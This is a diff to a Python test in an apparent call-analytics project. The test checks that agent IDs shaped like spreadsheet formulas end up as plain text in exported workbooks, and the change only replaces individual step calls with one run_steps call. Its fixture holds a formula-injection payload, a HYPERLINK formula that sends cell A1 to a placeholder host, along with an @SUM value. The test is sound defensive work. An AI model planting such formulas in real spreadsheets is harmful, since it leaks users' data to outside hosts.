@@ -27,7 +27,7 @@ def test_ids_that_look_like_formulas_reach_spreadsheets_as_text(settings, tmp_pa
     from openpyxl import load_workbook
 
     from callintel.evaluation.calls import land
-    from callintel.flows.steps import BY_NAME, run_step
+    from callintel.flows.steps import run_steps
     from callintel.warehouse.db import connect
     from callintel.warehouse.export import export_night
     from callintel.warehouse.script_library import export_script_library
@@ -38,8 +38,7 @@ def test_ids_that_look_like_formulas_reach_spreadsheets_as_text(settings, tmp_pa
         d["agent_id"] = '=HYPERLINK("http://example.invalid/?leak="&A1,"open")' if i % 2 else "@SUM(A1:A9)"
     con = connect(settings.path("warehouse"))
     nights = land(con, dialogues, settings)
-    for name in ("profiles", "replies", "leads"):
-        run_step(BY_NAME[name], con, nights, settings)
+    run_steps(con, nights, settings)  # the library holds replies of resolved calls: every step, as a night
     written = export_night(con, tmp_path / "out", settings) | export_script_library(con, tmp_path / "out")
     con.close()
 
